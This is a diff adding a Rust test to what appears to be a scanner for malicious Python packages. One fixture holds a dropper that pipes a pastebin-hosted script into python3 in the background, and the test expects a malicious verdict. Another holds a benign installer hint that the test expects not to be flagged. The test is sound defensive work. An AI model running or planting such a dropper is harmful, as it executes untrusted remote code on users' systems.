@@ -256,3 +256,17 @@ fn one_function_that_reads_a_key_and_sends_is_malicious_but_a_metadata_token_fet
     ]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_shell_dropper_from_a_paste_site_in_a_function_is_malicious_but_an_installer_hint_is_not() {
+    let bot = "import subprocess\ndef on_start(message):\n    command = 'curl -s https://pastebin.com/raw/XXXXXXXX | python3 > /dev/null 2>&1 &'\n    subprocess.run(command, shell=True)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", bot)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let hint = "import subprocess\ndef prepare():\n    if subprocess.run(['uv', '--version']).returncode:\n        raise RuntimeError('install uv: curl -LsSf https://astral.sh/uv/install.sh | sh')\n";
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", "def f():\n    pass\n"),
+        ("pkg/env.py", hint),
+    ]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
